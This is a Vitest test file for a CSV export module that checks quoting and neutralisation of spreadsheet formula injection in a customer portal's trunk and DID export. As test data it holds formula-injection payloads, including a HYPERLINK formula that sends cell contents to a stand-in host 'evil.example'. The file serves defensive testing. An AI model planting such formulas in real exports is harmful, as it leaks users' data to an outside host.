import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '@/sandbox/csv';
import { freshSandbox, signedIn } from './client';

describe('toCsv', () => {
  it('quotes fields with commas, quotes or line breaks, and ends every line with CRLF', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x, y', 'say "hi"'],
          [null, 3],
          ['two\nlines', true],
        ],
      ),
    ).toBe('a,b\r\n"x, y","say ""hi"""\r\n,3\r\n"two\nlines",true\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+31 20 123', "'+31 20 123"],
    ['-5', "'-5"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
  ])('prefixes the string %j that a spreadsheet would read as a formula', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves numbers, booleans and other strings as they are', () => {
    expect([csvCell(-5), csvCell(12.5), csvCell(false), csvCell('a=b'), csvCell(' =1'), csvCell('')]).toEqual([
      '-5',
      '12.5',
      'false',
      'a=b',
      ' =1',
      '',
    ]);
  });
});

describe('exports', () => {
  it('a trunk name a customer set to a formula comes out of the numbers CSV as text', async () => {
    const { app } = freshSandbox();
    const demo = await signedIn(app, 'demo');
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const created = await demo.post('customer/trunks', { name, type_id: 1 });
    expect(created.status).toBe(201);
    const trunk = ((await created.json()) as { id: number }).id;
    const did = ((await (await demo.get('customer/dids?page_size=20')).json()) as { results: { did: string }[] })
      .results[0].did;
    expect((await demo.patch(`customer/dids/${did}`, { customer_trunk: { id: trunk } })).status).toBe(200);

    const csv = await (await demo.get(`customer/dids/export?did=${did}&_export=csv`)).text();
    const row = csv.split('\r\n').find((line) => line.startsWith(`${did},`));
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",`);
  });
});
